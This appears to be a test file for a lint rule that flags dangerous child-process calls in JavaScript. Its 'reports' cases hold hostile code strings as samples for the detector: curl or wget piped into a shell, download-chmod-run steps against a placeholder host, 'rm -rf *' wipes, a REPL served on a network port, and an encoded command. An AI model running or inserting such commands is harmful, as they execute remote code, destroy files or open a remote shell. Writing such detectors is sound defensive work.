import { describeRule } from '../testing/describe-rule.ts';
import { processStart } from './process-start.ts';

describeRule(processStart, {
  reports: {
    'a shell whose words are a list put together elsewhere':
      "const { spawn } = require('child_process'); const line = ['wget', '-qO-', `https://x.invalid/${process.platform}`, '|', 'sh']; spawn('sh', ['-c', line.join(' ')]);",
    'everything in sight removed': "require('child_process').exec(isWindows ? 'rd /s /q .' : 'rm -rf *');",
    'a file that is downloaded, made a program and started, step by step':
      "import { exec } from 'child_process'; for (const step of ['wget -qO /tmp/.k https://x.invalid/k', 'chmod +x /tmp/.k', '/tmp/.k']) exec(step);",
    'a program that was written here out of an answer':
      "import { execFile } from 'child_process'; import fs from 'fs'; const at = `${dir}/k`; fs.writeFileSync(at, await (await fetch(u)).text()); execFile(at);",
    'a download given to a program that runs it':
      "const { spawn } = require('child_process'); const get = spawn('curl', ['-s', u]); const run = spawn('node', ['-']); get.stdout.pipe(run.stdin);",

    'a prompt at a connection':
      "const net = require('net'); net.createServer((s) => require('repl').start({ input: s, output: s })).listen(7331);",
    'a shell fed by curl':
      "const { execSync: run } = require('node:child_process');\nrun(`curl ${u} | bash`);",
    'an encoded command': "require('child_process').exec(atob('aWQ='));",
  },
  leaves: {
    'what was built removed': "require('child_process').exec('rm -rf ./dist');",
    'words given to a program that counts them':
      "const { spawn } = require('child_process'); const get = spawn('curl', ['-s', u]); const run = spawn('wc', ['-w']); get.stdout.pipe(run.stdin);",
    'git in a library': "require('child_process').spawn('git', ['log']);",
  },
});
